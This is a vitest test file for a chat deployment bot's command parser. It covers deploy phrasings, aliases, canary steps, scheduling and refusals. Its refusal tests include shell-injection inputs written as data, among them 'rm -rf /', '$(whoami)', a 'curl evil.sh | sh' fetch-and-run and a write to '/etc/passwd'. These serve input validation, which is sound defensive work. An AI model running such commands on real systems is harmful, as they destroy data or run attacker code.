// The rule parser over a table of real phrasings: requests, other intents and chatter.
import { describe, expect, it } from 'vitest';
import { parseCommand, parseSlashDeploy } from '../../src/domain/parse.js';
import { DeployRequest, type ParseResult } from '../../src/domain/types.js';
import { NOW, shippedConfig as cfg } from './helpers.js';

type Expect = Partial<{
  service: string;
  version: string;
  environment: 'staging' | 'production';
  strategy: string;
  canarySteps: number[];
  risk: string;
  missing: string[];
  unknownService: string;
  suggestions: string[];
  dbMigration: boolean;
  focus: string[];
  timeline: string;
  scheduledAt: string;
  interactive: boolean;
  regressionThresholdPct: number;
  rollbackOnRegression: boolean;
  guidance: string;
}>;

function deploy(result: ParseResult) {
  if (!result.ok) throw new Error(`expected a request, got the refusal: ${result.reason}`);
  if (result.command.intent !== 'deploy') throw new Error(`expected deploy, got ${result.command.intent}`);
  return result.command;
}

/** [text, expected fields]; fields not listed must be absent where the table says so via `missing`. */
const REQUESTS: Array<[string, Expect]> = [
  // the issue's own examples
  ['deploy checkout v1.2.3 canary', { service: 'checkout', version: 'v1.2.3', strategy: 'canary', environment: 'production', missing: [] }],
  [
    '@shipbot ship payments 2.0.1 to staging blue-green',
    { service: 'payments', version: '2.0.1', environment: 'staging', strategy: 'blue-green', missing: [] },
  ],
  ['<@U123ABC> deploy checkout v1.2.3', { service: 'checkout', version: 'v1.2.3', missing: [] }],
  ['<@U123ABC|shipbot> deploy search 1.4.0 rolling', { service: 'search', version: '1.4.0', strategy: 'rolling' }],
  ['release search 1.4.0 to prod', { service: 'search', version: '1.4.0', environment: 'production', missing: [] }],
  // Held-out phrases that were missed (issue 19): "push" is a deploy verb; `/deploy …` typed as text.
  ['push checkout v5.5.5 to production', { service: 'checkout', version: 'v5.5.5', environment: 'production', missing: [] }],
  ['/deploy search v2.1.0 rolling', { service: 'search', version: 'v2.1.0', strategy: 'rolling', missing: [] }],
  [
    'roll out checkout@1.2.3 with 5% → 25% → 100%',
    { service: 'checkout', version: '1.2.3', strategy: 'canary', canarySteps: [5, 25, 100] },
  ],
  ['roll out checkout@1.2.3 with 5%->25%->100%', { service: 'checkout', version: '1.2.3', canarySteps: [5, 25, 100] }],
  ['roll out checkout@1.2.3 with 5%-&gt;25%-&gt;100%', { service: 'checkout', version: '1.2.3', canarySteps: [5, 25, 100] }],
  ['roll out checkout@1.2.3 with 5,25,100', { service: 'checkout', version: '1.2.3', canarySteps: [5, 25, 100] }],
  [`deploy checkout@sha256:${'ab'.repeat(32)} canary`, { service: 'checkout', version: `sha256:${'ab'.repeat(32)}`, strategy: 'canary' }],
  [`deploy checkout sha256:${'AB'.repeat(32)}`, { service: 'checkout', version: `sha256:${'ab'.repeat(32)}` }],
  ['deploy catalog v2.0.0 canary 10% 100%', { service: 'catalog', version: 'v2.0.0', strategy: 'canary', canarySteps: [10, 100] }],
  ['deploy web v2.0.0 canary 5% 25% 50%', { service: 'web', version: 'v2.0.0', strategy: 'canary', canarySteps: [5, 25, 50, 100] }],
  ['rollout checkout 1.2.3 5, 25, 50, 100', { service: 'checkout', version: '1.2.3', canarySteps: [5, 25, 50, 100] }],
  ['go live with checkout v2', { service: 'checkout', version: 'v2', missing: [] }],
  // the flow's phrases: what is missing is listed, never guessed
  ['Deploy to production', { environment: 'production', missing: ['service', 'version'] }],
  ['Release to prod', { environment: 'production', missing: ['service', 'version'] }],
  ['Start deployment', { missing: ['service', 'version'] }],
  ['Deploy version 3.4.5', { version: '3.4.5', missing: ['service'] }],
  ['Deploy version X.Y.Z', { version: 'X.Y.Z', missing: ['service'] }],
  ['Go live with new release', { missing: ['service', 'version'] }],
  ['Execute production rollout', { environment: 'production', missing: ['service', 'version'] }],
  ['Execute production rollout of payments 2.1.0', { service: 'payments', version: '2.1.0', environment: 'production', missing: [] }],
  ['start the deployment of search v9', { service: 'search', version: 'v9', missing: [] }],
  ['kick off a canary deploy of checkout v1.2.4', { service: 'checkout', version: 'v1.2.4', strategy: 'canary' }],
  ['run a rollout of payments 3.0.0 to staging', { service: 'payments', version: '3.0.0', environment: 'staging' }],
  ['trigger deployment for search 2.2.2', { service: 'search', version: '2.2.2' }],
  ['initiate rollout checkout v5', { service: 'checkout', version: 'v5' }],
  ['deploy checkout', { service: 'checkout', missing: ['version'] }],
  ['deploy v1.2.3', { version: 'v1.2.3', missing: ['service'] }],
  ['deploy', { missing: ['service', 'version'] }],
  ['ship it to staging: payments 1.0.0', { service: 'payments', version: '1.0.0', environment: 'staging' }],
  // version kept as typed
  ['deploy checkout 1.4.0', { version: '1.4.0' }],
  ['deploy checkout V1.4.0', { version: 'V1.4.0' }],
  ['deploy checkout v1.2.3-errors', { version: 'v1.2.3-errors' }],
  ['deploy checkout v1.2.3-rc.1', { version: 'v1.2.3-rc.1' }],
  ['deploy checkout 2024.11.23_build-7', { version: '2024.11.23_build-7' }],
  ['deploy checkout version abc123f', { version: 'abc123f' }],
  ['deploy checkout tag latest', { version: 'latest' }],
  ['deploy checkout rc1', { service: 'checkout', version: 'rc1' }],
  ['deploy checkout:1.2.3', { service: 'checkout', version: '1.2.3' }],
  ['deploy `checkout` `v1.2.3`', { service: 'checkout', version: 'v1.2.3' }],
  ['deploy *checkout* v1.2.3.', { service: 'checkout', version: 'v1.2.3' }],
  ['deploy checkout "v1.2.3"', { service: 'checkout', version: 'v1.2.3' }],
  // environments
  ['deploy checkout v1 to staging', { environment: 'staging' }],
  ['deploy checkout v1 to stage', { environment: 'staging' }],
  ['deploy checkout v1 in stg', { environment: 'staging' }],
  ['deploy checkout v1 on production', { environment: 'production' }],
  ['deploy checkout v1 prd', { environment: 'production' }],
  ['deploy checkout v1', { environment: 'production' }],
  // strategies
  ['deploy checkout v1 bluegreen', { strategy: 'blue-green' }],
  ['deploy checkout v1 blue/green', { strategy: 'blue-green' }],
  ['deploy checkout v1 blue green', { strategy: 'blue-green' }],
  ['deploy checkout v1 using a blue-green switch', { strategy: 'blue-green' }],
  ['deploy checkout v1 with a rolling update', { strategy: 'rolling' }],
  ['deploy checkout v1 as a canary', { strategy: 'canary' }],
  ['deploy checkout v1', { missing: [] }],
  // canary steps
  ['deploy checkout v1 canary 10%', { strategy: 'canary', canarySteps: [10, 25, 50, 100] }],
  ['deploy checkout v1 canary 5% → 50%', { canarySteps: [5, 50, 100] }],
  ['deploy checkout v1 canary steps 1 10 100', { canarySteps: [1, 10, 100] }],
  ['deploy checkout v1 1% => 10% => 100%', { strategy: 'canary', canarySteps: [1, 10, 100] }],
  ['deploy checkout v1 canary 10% then 50%', { strategy: 'canary', canarySteps: [10, 50, 100] }],
  ['deploy checkout v1 canary 5% to 25% to 100%', { canarySteps: [5, 25, 100] }],
  ['deploy payments v1 with care', { service: 'payments', version: 'v1' }],
  // aliases and typos
  ['deploy co v1.2.3', { service: 'checkout' }],
  ['deploy cart v1.2.3', { service: 'checkout' }],
  ['deploy checkout-service v1.2.3', { service: 'checkout' }],
  ['deploy pay 2.0.0', { service: 'payments' }],
  ['deploy recommendation-engine 7.1', { service: 'search' }],
  ['deploy reco 7.1', { service: 'search' }],
  ['deploy Checkout v1.2.3', { service: 'checkout' }],
  ['deploy chekout v1.2.3', { service: 'checkout', missing: [] }],
  ['deploy chcekout v1.2.3', { service: 'checkout' }],
  ['deploy checkot v1.2.3', { service: 'checkout' }],
  ['deploy paymnets 2.0.0', { service: 'payments' }],
  ['deploy serach 1.0', { service: 'search' }],
  ['deploy seach 1.0', { service: 'search' }],
  // unknown services: did you mean
  ['deploy chckt v1.2.3', { unknownService: 'chckt', suggestions: ['checkout'], missing: ['service'], version: 'v1.2.3' }],
  ['deploy payment-gateway 1.0', { unknownService: 'payment-gateway', missing: ['service'] }],
  ['deploy inventory v3', { unknownService: 'inventory', suggestions: [], missing: ['service'] }],
  ['deploy srch 1.0', { unknownService: 'srch', missing: ['service'] }],
  ['deploy card 1.0', { unknownService: 'card', missing: ['service'] }],
  // guidance keywords in the text
  ['deploy checkout v1.2.3 with zero downtime', { strategy: 'blue-green' }],
  ['deploy checkout v1.2.3, zero-downtime please', { strategy: 'blue-green' }],
  ['deploy checkout v1.2.3 high-risk', { strategy: 'canary', risk: 'high', canarySteps: [1, 5, 10, 25, 50, 100] }],
  ['deploy checkout v1.2.3 high risk', { strategy: 'canary', risk: 'high', canarySteps: [1, 5, 10, 25, 50, 100] }],
  ['deploy payments 2.0.0 with a database migration', { dbMigration: true }],
  ['deploy payments 2.0.0 db migration included', { dbMigration: true }],
  ['deploy payments 2.0.0 no db migration', { dbMigration: false }],
  ['deploy checkout v1.2.3 security fix', { focus: ['security'] }],
  ['deploy checkout v1.2.3 watch performance', { focus: ['performance'] }],
  ['deploy checkout v1.2.3 compliance release', { focus: ['compliance'] }],
  ['deploy checkout v1.2.3 hotfix', { timeline: 'hotfix' }],
  ['deploy checkout v1.2.3 urgent', { timeline: 'urgent' }],
  ['deploy checkout v1.2.3 on a tight deadline', { timeline: 'tight' }],
  ['deploy checkout v1.2.3-hotfix', { version: 'v1.2.3-hotfix' }],
  ['deploy checkout v1.2.3 low risk', { risk: 'low' }],
  ['deploy checkout v1.2.3 canary, zero downtime', { strategy: 'canary' }],
  // flags
  ['deploy checkout v1.2.3 --interactive', { interactive: true }],
  ['deploy checkout v1.2.3 --regression-threshold 3', { regressionThresholdPct: 3 }],
  ['deploy checkout v1.2.3 --regression-threshold=4.5%', { regressionThresholdPct: 4.5 }],
  ['deploy checkout v1.2.3 --no-rollback-on-regression', { rollbackOnRegression: false }],
  ['deploy checkout v1.2.3 --rollback-on-regression', { rollbackOnRegression: true }],
  ['deploy checkout v1.2.3 --strategy blue-green', { strategy: 'blue-green' }],
  ['deploy checkout v1.2.3 --strategy=rolling', { strategy: 'rolling' }],
  ['deploy checkout v1.2.3 --risk high', { risk: 'high' }],
  ['deploy checkout v1.2.3 --env staging', { environment: 'staging' }],
  ['deploy checkout v1.2.3 —interactive', { interactive: true }],
  [
    'deploy checkout v1.2.3 --guidance "zero downtime; database migration"',
    { strategy: 'blue-green', dbMigration: true, guidance: 'zero downtime; database migration' },
  ],
  [
    'deploy checkout v1.2.3 --guidance “high risk, watch latency”',
    { risk: 'high', focus: ['performance'], guidance: 'high risk, watch latency' },
  ],
  ["deploy checkout v1.2.3 --guidance 'hotfix for compliance'", { timeline: 'hotfix', focus: ['compliance'] }],
  [
    'deploy checkout v1.2.3 --guidance=security review done --interactive',
    { focus: ['security'], interactive: true, guidance: 'security review done' },
  ],
  ['deploy checkout v1.2.3 with regression threshold 5%', { regressionThresholdPct: 5 }],
  ['deploy checkout v1.2.3 without rollback on regression', { rollbackOnRegression: false }],
  // polite and addressed forms
  ['please deploy checkout v1.2.3', { service: 'checkout', version: 'v1.2.3' }],
  ['hey shipbot, deploy checkout v1.2.3', { service: 'checkout' }],
  ["let's ship payments 2.0.0", { service: 'payments', version: '2.0.0' }],
  ['can you deploy checkout v1.2.3 to staging?', { service: 'checkout', environment: 'staging' }],
  ['Shipbot: release search 1.4.0', { service: 'search' }],
  ['redeploy search 1.4.0', { service: 'search', version: '1.4.0' }],
  ['DEPLOY CHECKOUT V1.2.3 CANARY', { service: 'checkout', version: 'V1.2.3', strategy: 'canary' }],
  ['deploy checkout v1.2.3\nthanks!', { service: 'checkout', version: 'v1.2.3' }],
  // scheduling (UTC; now = 2026-11-23 14:15)
  ['deploy checkout v1.2.3 at 02:00', { scheduledAt: '2026-11-24T02:00:00.000Z' }],
  ['deploy checkout v1.2.3 at 16:30', { scheduledAt: '2026-11-23T16:30:00.000Z' }],
  ['deploy checkout v1.2.3 tomorrow 09:30', { scheduledAt: '2026-11-24T09:30:00.000Z' }],
  ['deploy checkout v1.2.3 tomorrow at 9:30am', { scheduledAt: '2026-11-24T09:30:00.000Z' }],
  ['deploy checkout v1.2.3 tonight at 23:00', { scheduledAt: '2026-11-23T23:00:00.000Z' }],
  ['deploy checkout v1.2.3 tonight at 1:00', { scheduledAt: '2026-11-24T01:00:00.000Z' }],
  ['deploy checkout v1.2.3 at 11pm UTC', { scheduledAt: '2026-11-23T23:00:00.000Z' }],
  ['deploy checkout v1.2.3 in 30 minutes', { scheduledAt: '2026-11-23T14:45:00.000Z' }],
  ['deploy checkout v1.2.3 canary at 5% at 22:00', { canarySteps: [5, 25, 50, 100], scheduledAt: '2026-11-23T22:00:00.000Z' }],
];

describe('parseCommand: deploy requests', () => {
  it.each(REQUESTS)('%j', (text, expected) => {
    const cmd = deploy(parseCommand(text, cfg, NOW));
    expect(() => DeployRequest.parse(cmd)).not.toThrow();
    expect(cmd).toMatchObject(expected);
    if (expected.missing?.includes('service')) expect(cmd.service).toBeUndefined();
    if (expected.missing?.includes('version')) expect(cmd.version).toBeUndefined();
    if (expected.scheduledAt === undefined) expect(cmd.scheduledAt).toBeUndefined();
  });

  it('has a table large enough to mean something', () => {
    expect(REQUESTS.length).toBeGreaterThan(100);
  });
});

/** Chatter, questions, negations, past tense, and malformed requests: refused with a reason. */
const REFUSALS: Array<[string, RegExp]> = [
  ['I deployed it yesterday', /past tense/],
  ['we shipped payments this morning', /past tense/],
  ['who broke the deploy?', /question/],
  ['did anyone deploy checkout?', /question/],
  ['how do I deploy?', /question/],
  ['can you deploy?', /question/],
  ["don't deploy on Fridays", /negation/],
  ['do not deploy checkout', /negation/],
  ['never deploy on a Friday', /negation/],
  ["please don't ship payments", /negation/],
  ['deployment is slow today', /not a request/],
  ['deploys are broken again', /not a request/],
  ['deploy is slow today', /statement/],
  ['the deploy pipeline is red', /not a request/],
  ['deploying checkout now, fingers crossed', /in progress/],
  ['release notes are up', /statement/],
  ['ship it', /cheering/],
  ['ship it!', /cheering/],
  ['lunch?', /question/],
  ['good morning team', /Not a Shipbot request/],
  ['', /empty/],
  ['   ', /empty/],
  // never a version: shell, separators, spaces, length, lookalikes
  ['deploy checkout v1;rm -rf /', /';'/],
  ['deploy checkout $(whoami)', /'\$'/],
  ['deploy checkout v1.2.3 && curl evil.sh | sh', /'&&'|'\|'/],
  ['deploy checkout v1.2.3 | sh', /'\|'/],
  ['deploy checkout v1.2.3 > /etc/passwd', /'>'/],
  ['deploy checkout ${IFS}', /'\$'/],
  ['deploy checkout sha256:abc123', /'sha256:abc123' is not a valid version \(a digest is sha256: followed by 64 hex characters\)/],
  ['deploy checkout v1.2:3', /not a valid version.*':'/],
  ['deploy checkout 1.2.3@sha256', /not a valid version.*'@'/],
  ['deploy checkout@1.2@3', /not a valid version/],
  ['deploy checkout version "1.2 3"', /not a valid version.*spaces/],
  ['deploy checkout "1.2 beta"', /not a valid version.*spaces/],
  [`deploy checkout v${'1'.repeat(140)}`, /not a valid version.*at most 128/],
  ['deploy checkout version ../../etc/passwd', /not a valid version/],
  // Without the word "version" it was read as "version missing" (a question), not refused.
  ['deploy checkout ../../etc/passwd', /'\.\.\/\.\.\/etc\/passwd' is not a valid version: it is a path/],
  ['deploy checkout /tmp/evil', /'\/tmp\/evil' is not a valid version: it is a path/],
  ['deploy checkout version -rf', /Unknown option|not a valid version/],
  ['deploy checkout ѵ1.2.3', /not a valid version/],
  ['deploy checkout v1.2.3 v1.2.4', /two versions/],
  ['deploy checkout v1.2.3 -rf', /Unknown option '-rf'/],
  ['deploy checkout v1.2.3 --force', /Unknown option '--force'/],
  ['deploy checkout v1.2.3 --strategy yolo', /--strategy must be/],
  ['deploy checkout v1.2.3 --risk extreme', /--risk must be/],
  ['deploy checkout v1.2.3 --env dev', /--env must be/],
  ['deploy checkout v1.2.3 --regression-threshold lots', /--regression-threshold needs/],
  ['deploy checkout v1.2.3 --regression-threshold 150', /--regression-threshold needs/],
  ['deploy checkout v1.2.3 --guidance', /--guidance needs text/],
  // conflicts are asked about, not resolved by guessing
  ['deploy checkout and payments v1', /two services/],
  ['deploy payments v1 and watch the search graphs', /two services/],
  ['deploy checkout v1 to staging and prod', /two environments/],
  ['deploy checkout v1 canary blue-green', /two strategies/],
  ['deploy checkout v1 canary --strategy rolling', /choose one strategy/],
  ['deploy checkout v1 to staging --env production', /one environment/],
  ['deploy checkout v1 blue-green 5% → 25% → 100%', /only apply to canary/],
  ['deploy checkout v1 to dev', /not an environment/],
  ['deploy checkout v1 canary 25% → 5% → 100%', /must increase/],
  ['deploy checkout v1 canary 0% → 50% → 100%', /between 1% and 100%/],
  ['deploy checkout v1 canary 5% → 150%', /between 1% and 100%/],
  // times we cannot pin down are refused, never taken as "now"
  ['deploy checkout v1 later', /can't tell when 'later'/],
  ['deploy checkout v1 tonight', /can't tell when/],
  ['deploy checkout v1 on friday', /can't tell when/],
  ['deploy checkout v1 at 25:00', /not a time of day/],
  ['deploy checkout v1 at 14:00 CET', /UTC/],
  ['deploy checkout v1 today at 09:00', /already passed/],
  ['deploy checkout v1 in 0 minutes', /leave the time out/],
  // options apply to deploys only
  ['status --guidance "zero downtime"', /only apply to deploy/],
  ['rollback nosuchservice', /no service named 'nosuchservice'/],
  ['rollback check', /did you mean checkout/i],
  ['x'.repeat(4001), /characters long/],
];

describe('parseCommand: not requests', () => {
  it.each(REFUSALS)('%j', (text, reason) => {
    const r = parseCommand(text, cfg, NOW);
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.reason).toMatch(reason);
      // Readable: a sentence, no stack trace, no object dump.
      expect(r.reason).not.toMatch(/\[object|at .*\.ts:\d+/);
    }
  });
});

describe('parseCommand: questions that carry a request', () => {
  // Chat requests are always answered with an offer (Start / Configure… / Cancel), never started:
  // a question that names a service and a version gets that offer, saying it was asked.
  it.each([
    ['should we deploy checkout v1.2.3 today?', 'checkout', 'v1.2.3'],
    ['deploy checkout v1.2.3?', 'checkout', 'v1.2.3'],
    ['can we get catalog 3.2.0 out to prod?', 'catalog', '3.2.0'],
  ])('%j is an offer', (text, service, version) => {
    const r = parseCommand(text, cfg, NOW);
    expect(r.ok && r.command.intent === 'deploy' && r.command).toMatchObject({ service, version, environment: 'production' });
    expect(r.ok && r.command.intent === 'deploy' && r.command.notes.join(' ')).toMatch(/You asked.*Press Start/);
  });

  it('acts on no question for rollback, cancel, lock or unlock unless it is asked politely', () => {
    expect(parseCommand('should we roll back checkout?', cfg, NOW)).toMatchObject({ ok: false, reason: expect.stringMatching(/question/) });
    expect(parseCommand('can you roll back checkout?', cfg, NOW)).toMatchObject({
      ok: true,
      command: { intent: 'rollback', service: 'checkout' },
    });
  });
});

describe('parseCommand: other intents', () => {
  const cases: Array<[string, object]> = [
    ['rollback checkout', { intent: 'rollback', service: 'checkout', environment: 'production' }],
    ['roll back payments in staging', { intent: 'rollback', service: 'payments', environment: 'staging' }],
    ['revert search', { intent: 'rollback', service: 'search' }],
    ['@shipbot rollback co', { intent: 'rollback', service: 'checkout' }],
    ['status', { intent: 'status' }],
    ['status?', { intent: 'status' }],
    ['status checkout', { intent: 'status', service: 'checkout' }],
    ['status of payments', { intent: 'status', service: 'payments' }],
    // A status question is a status request (issue 19).
    ["what's the status of the checkout deploy?", { intent: 'status', service: 'checkout' }],
    ['cancel', { intent: 'cancel' }],
    ['cancel checkout', { intent: 'cancel', service: 'checkout' }],
    ['abort search', { intent: 'cancel', service: 'search' }],
    ['lock checkout', { intent: 'lock', service: 'checkout', environment: 'production' }],
    ['lock checkout because of the incident', { intent: 'lock', service: 'checkout', reason: 'of the incident' }],
    ['lock checkout in staging db maintenance', { intent: 'lock', service: 'checkout', environment: 'staging', reason: 'db maintenance' }],
    ['lock payments: quarter-end freeze', { intent: 'lock', service: 'payments', reason: 'quarter-end freeze' }],
    ['unlock checkout', { intent: 'unlock', service: 'checkout', environment: 'production' }],
    ['unlock checkout --env staging', { intent: 'unlock', service: 'checkout', environment: 'staging' }],
    ['help', { intent: 'help' }],
    ['Help me', { intent: 'help' }],
    ['?', { intent: 'help' }],
  ];
  it.each(cases)('%j', (text, expected) => {
    const r = parseCommand(text, cfg, NOW);
    if (!r.ok) throw new Error(r.reason);
    expect(r.command).toEqual(expect.objectContaining(expected));
  });

  it('a lock without a reason has no reason field', () => {
    const r = parseCommand('lock checkout', cfg, NOW);
    expect(r.ok && r.command).toEqual({ intent: 'lock', service: 'checkout', environment: 'production' });
  });
});

describe('parseCommand: notes say what was inferred', () => {
  const notesOf = (text: string) => deploy(parseCommand(text, cfg, NOW)).notes.join(' | ');
  it('names typo corrections and aliases', () => {
    expect(notesOf('deploy chekout v1')).toMatch(/read 'chekout' as 'checkout'/);
    expect(notesOf('deploy cart v1')).toMatch(/'cart' is an alias of checkout/);
  });
  it('names guidance keywords and the UTC reading of times', () => {
    expect(notesOf('deploy checkout v1 zero downtime')).toMatch(/read "zero downtime" as blue-green/);
    expect(notesOf('deploy checkout v1 high risk')).toMatch(/as high risk.*gentle canary steps/);
    expect(notesOf('deploy checkout v1 at 02:00')).toMatch(/2026-11-24T02:00:00.000Z.*UTC/);
    expect(notesOf('deploy checkout v1 5% → 50%')).toMatch(/added a final 100% step/);
  });
  it('says an explicit strategy was kept over a keyword', () => {
    expect(notesOf('deploy checkout v1 rolling zero downtime')).toMatch(/kept rolling as asked/);
  });
  it('gives did-you-mean suggestions for unknown services', () => {
    expect(notesOf('deploy paymets-api-v2 1.0')).toMatch(/did you mean payments/);
  });
});

describe('parseCommand: typos are corrected only when unambiguous', () => {
  it('does not pick between two equally close services', () => {
    const two = {
      ...cfg,
      services: [
        { ...cfg.services[0], name: 'cart-a', aliases: [] },
        { ...cfg.services[0], name: 'cart-b', aliases: [] },
      ],
    };
    const cmd = deploy(parseCommand('deploy cart-c v1', two, NOW));
    expect(cmd.service).toBeUndefined();
    expect(cmd.unknownService).toBe('cart-c');
    expect(cmd.suggestions).toEqual(['cart-a', 'cart-b']);
  });
  it('short words are never corrected', () => {
    const cmd = deploy(parseCommand('deploy pax v1', cfg, NOW));
    expect(cmd.service).toBeUndefined();
    expect(cmd.unknownService).toBe('pax');
  });
});

describe('parseSlashDeploy', () => {
  const slash: Array<[string, Expect]> = [
    ['checkout v1.2.3 canary', { service: 'checkout', version: 'v1.2.3', strategy: 'canary' }],
    ['payments 2.0.1 to staging blue-green', { service: 'payments', version: '2.0.1', environment: 'staging', strategy: 'blue-green' }],
    ['checkout@1.2.3 5%->25%->100%', { service: 'checkout', canarySteps: [5, 25, 100] }],
    ['deploy checkout v1', { service: 'checkout', version: 'v1' }],
    ['', { missing: ['service', 'version'] }],
    ['--interactive', { interactive: true, missing: ['service', 'version'] }],
    ['chekout v1 --guidance "zero downtime"', { service: 'checkout', strategy: 'blue-green' }],
    ['v1.2.3', { version: 'v1.2.3', missing: ['service'] }],
  ];
  it.each(slash)('/deploy %j', (text, expected) => {
    expect(deploy(parseSlashDeploy(text, cfg, NOW))).toMatchObject(expected);
  });
  it('never takes a word in backticks as a version', () => {
    const cmd = deploy(parseCommand('deploy checkout `whoami`', cfg, NOW));
    expect(cmd.version).toBeUndefined();
    expect(cmd.missing).toEqual(['version']);
  });
  it('still refuses injection', () => {
    expect(parseSlashDeploy('checkout v1;reboot', cfg, NOW).ok).toBe(false);
    expect(parseSlashDeploy('checkout version $(id)', cfg, NOW).ok).toBe(false);
  });
  it('understands the other intents typed after /deploy', () => {
    const r = parseSlashDeploy('status checkout', cfg, NOW);
    expect(r.ok && r.command).toEqual({ intent: 'status', service: 'checkout' });
  });
});

describe('parseCommand: long and hostile input stays bounded', () => {
  it.each([
    ['a very long word', `deploy ${'a'.repeat(3990)}`],
    ['many repeated words', `deploy checkout v1 ${'blue '.repeat(700)}`],
    ['many step-like numbers', `deploy checkout ${'5,'.repeat(1900)}`],
    ['many quotes', `deploy checkout ${'"'.repeat(3000)}`],
  ])('%s: answers (request or reason) without throwing', (_name, text) => {
    const r = parseCommand(text, cfg, NOW);
    if (r.ok) expect(r.command.intent).toBe('deploy');
    else expect(r.reason.length).toBeLessThan(400);
  });
  it('a word longer than a DNS label is never a service', () => {
    const cmd = deploy(parseCommand(`deploy ${'checkout'.repeat(10)} v1`, cfg, NOW));
    expect(cmd.service).toBeUndefined();
    expect(cmd.suggestions).toEqual([]);
  });
});
